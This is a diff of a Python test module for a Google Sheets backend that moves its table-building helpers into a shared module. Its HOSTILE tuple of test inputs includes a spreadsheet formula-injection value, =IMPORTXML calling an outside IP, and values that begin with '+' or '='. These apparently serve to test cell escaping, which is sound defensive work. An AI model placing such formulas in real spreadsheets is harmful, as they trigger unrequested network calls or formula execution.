@@ -13,19 +13,13 @@ from backend.settings import GoogleSettings
 from backend.sheets import Sheet
 from backend.sheets.google.api import GoogleApi
 from backend.sheets.google.sheet import GoogleSheet
-from backend.sheets.table import Column, Section, Table, Text
 from backend.sheets.workbook import Workbook
-from backend.tabs.jobs import jobs_table
-from backend.tabs.leaderboard import leaderboard_table
 from backend.tabs.names import SERVERS, Rank
-from backend.tabs.results import results_table
-from backend.tabs.run import run_table
-from backend.tabs.servers import servers_table
 from tests import examples
 from tests.google import peoples_tab
 from tests.google.server import SheetsServer
+from tests.sheets.made_tables import SHOWN, tables, texts
 
-SHOWN = ("Verdict", "GPUs", "Free GPU memory", "Users", "Seen")
 HOSTILE = (
     '=IMPORTXML("http://192.0.2.1")',
     "+1",
@@ -36,22 +30,6 @@ HOSTILE = (
     "007",
     "\t=1",
 )
-
-
-def tables() -> list[Table]:
-    return [
-        servers_table([examples.busy_server()]),
-        jobs_table([examples.running()], []),
-        results_table([examples.result()]),
-        leaderboard_table([examples.result()]),
-        run_table(examples.result(), examples.HISTORY, ["confusion_matrix"]),
-    ]
-
-
-def texts(*words: str, name: str = "Jobs", rank: int = 0) -> Table:
-    rows = tuple((word, Text(text=word, note=word), 1.5) for word in words)
-    columns = (Column(title="Plain"), Column(title="Noted"), Column(title="Number", format="decimal"))
-    return Table(name=name, rank=rank, sections=(Section(columns=columns, rows=rows),))
 
 
 class SheetSuite(ABC):
